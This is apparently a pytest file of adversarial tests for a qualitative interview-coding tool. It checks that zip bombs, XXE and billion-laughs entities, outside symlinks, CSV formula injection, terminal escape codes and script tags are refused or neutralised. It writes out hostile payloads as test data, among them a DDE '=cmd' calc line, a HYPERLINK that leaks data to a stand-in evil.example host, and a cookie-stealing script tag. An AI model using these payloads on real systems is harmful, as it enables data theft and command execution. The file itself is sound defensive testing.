"""Hostile inputs, each with its expected outcome (tests/adversarial/README.md lists them).

The small hostile files live in tests/adversarial/ and run through the real
command line; the big ones (zip bombs, a 25 MB file, a million-character
line) are made here in tmp_path. A hostile input gives qualcode's own error
(exit 2, one line, a catalogue code, no traceback) or is read with warnings;
nothing in it reaches a spreadsheet as a formula, a browser as markup or a
terminal as a control sequence, and nothing outside the corpus is read.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from qualcode.base.safecsv import FORMULA_TRIGGERS
from qualcode.cli import app
from qualcode.corpus import read_corpus
from qualcode.results.frames import read_frame
from support.hostile import docx_bytes, lying_zip, members, odt_bytes, rezip, zip_bomb
from support.paths import ADVERSARIAL, TESTS_DATA

HOSTILE = ADVERSARIAL / "hostile_corpus"
MINIMAL = TESTS_DATA / "codebooks" / "minimal.yaml"
#: what must never reach a terminal raw: C0 (but tab and line feed), DEL, C1, bidi controls
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"cliquez ici")'
CONTROL_AREA = "ctrl\x1b[31m\u202eenra"
TRANSCRIPT = "Enquêtrice : Bonjour, parlez-moi de la cellule d'animation.\nRépondante : La cellule d'animation nous réunit.\n"


def run(*args: str | Path):
    return CliRunner().invoke(app, [str(a) for a in args])


def assert_refused(result, code: str, where: str | None = None) -> str:
    """Exit 2 with one clean line that carries the code (and names the file)."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    errors = [line for line in lines if line.startswith("qualcode: error: ")]
    assert len(errors) == 1 and lines[-1] == errors[0], result.stderr  # warnings may come first
    assert all(line.startswith("qualcode: warning: ") for line in lines[:-1]), result.stderr
    assert f"[{code}]" in errors[0], errors[0]
    if where is not None:
        assert where in errors[0], errors[0]
    return errors[0]


def assert_no_formula(path: Path) -> None:
    """No cell of a CSV file would run in a spreadsheet (a plain number may start with - or +)."""
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
        for value in row:
            if value.startswith(FORMULA_TRIGGERS):
                float(value)


def assert_terminal_safe(text: str) -> None:
    assert not RAW_CONTROL.search(text), repr(RAW_CONTROL.search(text).group())


# --- hostile files that are refused -------------------------------------------------------

REFUSED = [
    ("not_a_zip", "E104", "interview.docx"),
    ("broken_odt", "E111", "interview.odt"),
    ("frontmatter_alias", "E109", "interview.md:2"),
    ("frontmatter_python_tag", "E109", "interview.md:2"),
    ("metadata_traversal", "E112", "metadata.csv:2"),
    ("metadata_absolute", "E112", "metadata.csv:2"),
    ("binary_txt", "E103", "interview.txt"),
    ("srt_digit_run", "E111", "interview.srt"),
]


@pytest.mark.parametrize("folder, code, where", REFUSED, ids=[r[0] for r in REFUSED])
def test_hostile_corpus_is_refused_cleanly(folder, code, where, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    started = time.monotonic()
    result = run("code", ADVERSARIAL / folder, "--codebook", MINIMAL, "--by", "id", "--no-cache",
                 "--out", tmp_path / "out")
    assert_refused(result, code, where)
    assert time.monotonic() - started < 20
    assert not (tmp_path / "out").exists()
    assert not (tmp_path / "qualcode-pwned").exists()  # no YAML tag ran a command


@pytest.mark.parametrize("name, code", [("codebook_billion_laughs.yaml", "E205"),
                                        ("codebook_python_tag.yaml", "E206"),
                                        ("codebook_deep.yaml", "E209")])
def test_hostile_codebook_is_refused_cleanly(name, code, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    started = time.monotonic()
    result = run("codebook", "validate", ADVERSARIAL / name)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and f"[{code}]" in result.stderr
    assert time.monotonic() - started < 10
    assert not (tmp_path / "qualcode-pwned").exists()
    result = run("code", HOSTILE, "--codebook", ADVERSARIAL / name, "--no-cache")
    assert result.exit_code == 2 and f"[{code}]" in result.stderr


def test_codebook_labels_with_controls_are_shown_escaped_and_kept_in_files(tmp_path):
    result = run("codebook", "show", ADVERSARIAL / "codebook_controls.yaml")
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output)
    assert "\\x1b]0;pwned" in result.stdout and "\\u202elacol" in result.stdout
    out = tmp_path / "codebook.csv"
    assert run("codebook", "export", ADVERSARIAL / "codebook_controls.yaml", "--format", "csv",
               "--out", out).exit_code == 0
    assert "\x1b]0;pwned\x07\x1b[2JCoordination \u202elacol" in out.read_text(encoding="utf-8")
    assert_no_formula(out)
    assert "\"'=HYPERLINK(\"\"http://evil.example\"\") Local" in out.read_text(encoding="utf-8")


# --- big hostile inputs, made here -----------------------------------------------------------

def test_docx_zip_bomb_is_refused_before_inflating(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    zip_bomb(corpus / "bomb.docx", "word/document.xml", 201_000_000, [("[Content_Types].xml", b"<Types/>")])
    assert (corpus / "bomb.docx").stat().st_size < 1_000_000
    started = time.monotonic()
    line = assert_refused(run("corpus", corpus), "E104", "bomb.docx")
    assert "unpacks to 201000008 bytes, over the limit" in line
    assert time.monotonic() - started < 5


def test_xlsx_zip_bomb_metadata_is_refused(tmp_path):
    (tmp_path / "a.txt").write_text(TRANSCRIPT, encoding="utf-8")
    zip_bomb(tmp_path / "metadata.xlsx", "xl/worksheets/sheet1.xml", 201_000_000)
    assert_refused(run("corpus", tmp_path), "E110", "metadata.xlsx")


def test_docx_member_that_inflates_past_its_declared_size_is_refused(tmp_path):
    base = docx_bytes(["Enquêtrice : Bonjour.", "Répondante : oui."])
    (tmp_path / "liar.docx").write_bytes(lying_zip(base, "word/document.xml"))
    assert_refused(run("corpus", tmp_path), "E104", "liar.docx")


@pytest.mark.parametrize("fmt", ["docx", "odt"])
def test_xml_entities_in_documents_are_never_expanded_nor_resolved(fmt, tmp_path):
    """A DTD with a billion laughs and an external entity: refused, or read without either."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    base = docx_bytes(["Répondante : oui"]) if fmt == "docx" else odt_bytes(["Répondante : oui"])
    part = "word/document.xml" if fmt == "docx" else "content.xml"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    dtd = (f'<!DOCTYPE d [<!ENTITY l0 "lol">{laughs}'
           f'<!ENTITY xxe SYSTEM "file://{secret}">]>').encode()
    items = []
    for name, content in members(base):
        if name == part:
            declaration, _, rest = content.partition(b"?>")
            content = declaration + b"?>" + dtd + rest.replace(b"oui", b"&l9; &xxe;", 1)
        items.append((name, content))
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / f"entities.{fmt}").write_bytes(rezip(items))
    started = time.monotonic()
    result = run("corpus", corpus, "--json", "--turns")
    assert time.monotonic() - started < 10
    assert "TOP-SECRET-CONTENT" not in result.output and "lollollol" not in result.output
    if result.exit_code:
        assert_refused(result, "E104" if fmt == "docx" else "E111", f"entities.{fmt}")


def test_file_over_the_size_limit_is_refused_before_reading(tmp_path):
    with open(tmp_path / "huge.txt", "wb") as handle:
        handle.truncate(25_000_000)  # sparse: tens of MB on paper, nothing on disk
    started = time.monotonic()
    assert_refused(run("corpus", tmp_path), "E114", "huge.txt")
    assert time.monotonic() - started < 5


def test_huge_single_line_reads_in_bounded_time(tmp_path):
    """Five million characters on one line: the label pattern tries once, the line is one turn."""
    (tmp_path / "line.txt").write_text("Répondante : " + "la cellule d'animation " * 220_000, encoding="utf-8")
    started = time.monotonic()
    corpus = read_corpus(tmp_path)
    assert time.monotonic() - started < 15
    assert len(corpus.interviews[0].turns) == 1


def test_turn_too_long_to_parse_is_refused_before_parsing(tmp_path):
    (tmp_path / "a.txt").write_text("Enquêtrice : Bonjour.\nRépondante : " + "mot " * 300_000 + "\n",
                                    encoding="utf-8")
    started = time.monotonic()
    line = assert_refused(run("code", tmp_path, "--by", "id", "--no-cache", "--codebook", MINIMAL),
                          "E801", "a.txt")
    assert "turn t2 holds 1199999 characters" in line
    assert time.monotonic() - started < 10


def test_metadata_value_too_long_is_refused_at_read(tmp_path):
    """A million-character value would reach the name detection of pseudonymisation in one piece."""
    long_value = "mot " * 300_000
    (tmp_path / "a.md").write_text(f"---\narea: x\nrole: {long_value}\n---\n{TRANSCRIPT}", encoding="utf-8")
    line = assert_refused(run("corpus", tmp_path), "E109", "a.md:3")
    assert "over the limit of 100000" in line
    (tmp_path / "a.md").write_text(TRANSCRIPT, encoding="utf-8")
    (tmp_path / "metadata.csv").write_text(f"file,role\na.md,{long_value}\n", encoding="utf-8")
    assert_refused(run("corpus", tmp_path), "E110", "metadata.csv:2")


@pytest.mark.parametrize("suffix, content", [
    (".srt", "1\n" + "0" * 200_000),
    (".srt", "1\n00:00:01,000 --> 00:00:02,000\nR: oui\n\n" + " " * 200_000 + "x"),
    (".srt", "1\n00:00:01,000 --> 00:00:02,000\nR: oui\n\n" + "0\n\n" * 100_000),
    (".vtt", "WEBVTT\n\n" + "00:00:00.000 --> " * 50_000),
    (".vtt", "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n" + "<v " * 100_000),
    (".txt", "[" + "0" * 500_000),
    (".txt", "**" * 500_000 + ":"),
    (".txt", "Q" * 1_000_000 + " :"),
    (".md", "---\n" + "[" * 100_000 + "\n---\n"),
    (".md", "---\n" + "a: b\n" * 200_000),
], ids=lambda v: v if isinstance(v, str) and len(v) < 8 else None)
def test_pathological_runs_are_bounded(suffix, content, tmp_path):
    (tmp_path / f"x{suffix}").write_text(content, encoding="utf-8")
    started = time.monotonic()
    result = run("corpus", tmp_path)
    assert time.monotonic() - started < 10
    assert result.exit_code in (0, 2) and "Traceback" not in result.output
    if result.exit_code:
        assert_refused(result, result.stderr.split("[", 2)[1][:4])


def test_symbolic_links_never_pull_in_files_from_outside(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("Enquêtrice : Bonjour.\nRépondante : TOP-SECRET-CONTENT.\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "a.txt").write_text(TRANSCRIPT, encoding="utf-8")
    (corpus / "leak.txt").symlink_to(secret)
    (corpus / "linked").symlink_to(tmp_path, target_is_directory=True)
    (corpus / "broken.txt").symlink_to(corpus / "missing.txt")
    (corpus / "inside.txt").symlink_to(corpus / "a.txt")
    result = run("code", corpus, "--by", "id", "--no-cache", "--codebook", MINIMAL, "--pipeline", "fast",
                 "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    for name in ("leak.txt", "broken.txt", "linked"):
        assert re.search(rf"{name}: \[W106\] skipped: a symbolic link", result.stderr), result.stderr
    written = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").iterdir())
    assert "TOP-SECRET-CONTENT" not in written
    assert "inside#t2" in written  # a link that stays inside the corpus is a transcript


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_named_pipe_is_refused_not_waited_on(tmp_path):
    (tmp_path / "a.txt").write_text(TRANSCRIPT, encoding="utf-8")
    os.mkfifo(tmp_path / "pipe.txt")
    assert_refused(run("corpus", tmp_path), "E111", "pipe.txt")


# --- hostile content that reads: nothing runs, nothing is lost -----------------------------

@pytest.fixture(scope="module")
def coded(tmp_path_factory) -> Path:
    """The hostile corpus coded, then classified, into one results folder."""
    out = tmp_path_factory.mktemp("hostile") / "results"
    result = run("code", HOSTILE, "--codebook", MINIMAL, "--pipeline", "fast", "--no-cache", "--out", out)
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output)
    result = run("classify", out)
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output)
    return out


def test_hostile_metadata_and_labels_are_read_as_data():
    corpus = read_corpus(HOSTILE)
    assert corpus["injection"].get("area") == HYPERLINK
    assert corpus["controls"].get("area") == CONTROL_AREA
    assert corpus["controls"].get("=cmd") == "@x"
    assert corpus["controls"].turns[1].speaker == "Mme \x1b]0;pwned\x07Martin"
    assert corpus["injection"].turns[1].text.startswith("=cmd|' /C calc'!A0")


def test_no_csv_cell_opens_a_formula(coded):
    for path in sorted(coded.glob("*.csv")):
        assert_no_formula(path)
    text = (coded / "segments.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(\"\"http://evil.example" in text
    assert ",'=cmd|' /C calc'!A0 La cellule" in text
    assert "<script>alert(document.cookie)</script>" in text  # the data is kept as spoken


def test_csv_round_trip_is_exact_and_offsets_refer_to_the_transcript(coded):
    corpus = read_corpus(HOSTILE)
    segments = read_frame(coded, "segments.csv")
    for row in segments.itertuples(index=False):
        assert corpus[row.interview_id].text[row.start:row.end] == row.text
    assert set(segments["case"]) == {HYPERLINK, CONTROL_AREA}
    assert segments.loc[segments["segment_id"] == "injection#t4", "text"].item().startswith("-2+3+cmd")
    evidence = read_frame(coded, "evidence.csv")
    for row in evidence.itertuples(index=False):
        interview = row.segment_id.split("#")[0]
        assert corpus[interview].text[row.start:row.end] == row.matched_text
    assert set(read_frame(coded, "classification.csv")["case"]) == {HYPERLINK, CONTROL_AREA}
    assert set(read_frame(coded, "case_matrix.csv")["case"]) == {HYPERLINK, CONTROL_AREA}


def test_segments_view_filters_on_a_formula_case_and_prints_safely(coded):
    result = run("segments", coded, "--case", HYPERLINK)
    assert result.exit_code == 0, result.output
    assert "injection#t2" in result.stdout
    result = run("segments", coded, "--case", CONTROL_AREA)
    assert result.exit_code == 0 and "controls#t2" in result.stdout
    assert_terminal_safe(result.output)
    result = run("segments", coded, "--csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert all(not v.startswith(FORMULA_TRIGGERS) or float(v) is not None for row in rows for v in row)


def test_exports_neutralise_formulas_and_keep_offsets(coded, tmp_path):
    table = tmp_path / "cases.csv"
    result = run("export", "table", coded, "--out", table, "--level", "case", "--codebook", MINIMAL,
                 "--corpus", HOSTILE)
    assert result.exit_code == 0, result.output
    assert_no_formula(table)
    assert table.read_text(encoding="utf-8").splitlines()[0].split(",")[5] == "'=cmd"
    xlsx = tmp_path / "segments.xlsx"
    assert run("export", "table", coded, "--out", xlsx, "--corpus", HOSTILE,
               "--codebook", MINIMAL).exit_code == 0
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # the project's selections are cut out of the transcripts by offsets: they must still match
    result = run("export", "qdpx", coded, "--out", tmp_path / "p.qdpx", "--corpus", HOSTILE,
                 "--codebook", MINIMAL)
    assert result.exit_code == 0, result.output


def test_disagreements_csv_neutralises_formulas(tmp_path):
    human = tmp_path / "coder.csv"
    human.write_text("segment,code,coder\ninjection#t4,silos,=cmd|' /C calc'!A0\n", encoding="utf-8")
    out = tmp_path / "disagreements.csv"
    result = run("agree", HOSTILE, "--codebook", MINIMAL, "--pipeline", "fast", "--no-cache", "--human", human,
                 "--csv", out, "--resamples", "0", "--disagreements")
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output)
    assert_no_formula(out)
    text = out.read_text(encoding="utf-8")
    assert "'=cmd|' /C calc'!A0" in text and "'-2+3+cmd" in text


def test_terminal_output_is_never_hijacked():
    for args in (["corpus", HOSTILE], ["corpus", HOSTILE, "--turns"]):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert_terminal_safe(result.output)
    assert "\\x1b]0;pwned\\x07Martin" in run("corpus", HOSTILE, "--turns").stdout
    result = run("corpus", HOSTILE, "--json", "--turns")
    assert_terminal_safe(result.stdout)
    records = json.loads(result.stdout)  # escaped as \\uXXXX, the data is intact
    controls = next(r for r in records if r["id"] == "controls")
    assert controls["area"] == CONTROL_AREA
    assert controls["turns"][1]["speaker"] == "Mme \x1b]0;pwned\x07Martin"


def test_hostile_file_names_are_data(tmp_path):
    """File names are the attacker's too: they become ids, segment ids and messages."""
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name in ("=cmd|' calc'!A0.txt", "\x1b]0;pwned\x07.md", "@SUM(1).txt"):
        (corpus / name).write_text(TRANSCRIPT, encoding="utf-8")
    out = tmp_path / "out"
    result = run("code", corpus, "--by", "id", "--codebook", MINIMAL, "--pipeline", "fast", "--no-cache",
                 "--out", out)
    assert result.exit_code == 0, result.output
    assert_terminal_safe(result.output)
    for path in sorted(out.glob("*.csv")):
        assert_no_formula(path)
    assert set(read_frame(out, "segments.csv")["interview_id"]) == {"=cmd|' calc'!A0", "\x1b]0;pwned\x07",
                                                                    "@SUM(1)"}
    result = run("corpus", corpus)
    assert result.exit_code == 0 and "\\x1b]0;pwned\\x07" in result.stdout
    assert_terminal_safe(result.output)
    (corpus / "bad\nid.txt").write_text(TRANSCRIPT, encoding="utf-8")
    assert_refused(run("corpus", corpus), "E116")


def test_echo_data_escapes_controls_only_on_a_terminal(monkeypatch, capsys):
    from qualcode.cli import output as _util

    monkeypatch.setattr(_util.sys.stdout, "isatty", lambda: True, raising=False)
    _util.echo_data("a\x1b[2Jb\u202ec\n")
    assert capsys.readouterr().out == "a\\x1b[2Jb\\u202ec\n"
    monkeypatch.setattr(_util.sys.stdout, "isatty", lambda: False, raising=False)
    _util.echo_data("a\x1b[2Jb\n")
    assert capsys.readouterr().out == "a\x1b[2Jb\n"


# --- qualcode analyze and its reports (src/qualcode/analysis.py, report/) --------------------

@pytest.fixture(scope="module")
def analysed(tmp_path_factory) -> tuple[Path, object]:
    out = tmp_path_factory.mktemp("analysed") / "results"
    result = run("analyze", HOSTILE, "--codebook", MINIMAL, "--pipeline", "fast", "--no-cache",
                 "--min-interviews", "1", "--quotes", "verbatim", "--out", out)
    assert result.exit_code == 0, result.output
    return out, result


def test_analyze_writes_inert_reports_and_safe_files(analysed):
    out, result = analysed
    assert_terminal_safe(result.output)
    for path in sorted(out.glob("*.csv")):
        assert_no_formula(path)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
    assert not re.search(r"<(script|img|iframe|object|embed|link)\b", html, re.I)
    assert not re.search(r"\b(href|src)\s*=\s*[\"']?\s*(javascript:|https?:|//)", html, re.I)
    assert "http://" not in html
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert "<script>" not in markdown and "\\<script\\>" in markdown
    assert not re.search(r"(?<!\\)\]\(", markdown)  # no link: every `](` is escaped


def test_analyze_report_keeps_the_themes_of_a_case_named_like_a_formula(analysed):
    out, _result = analysed
    markdown = (out / "report.md").read_text(encoding="utf-8")
    row = next(line for line in markdown.splitlines() if line.startswith("| local_coordination")
               or ("Coordination locale" in line and line.startswith("|")))
    assert row.count("1/1") == 2, row


def test_analyze_reports_hold_no_bidi_override(analysed):
    out, _ = analysed
    for name in ("report.html", "report.md"):
        assert "\u202e" not in (out / name).read_text(encoding="utf-8"), name
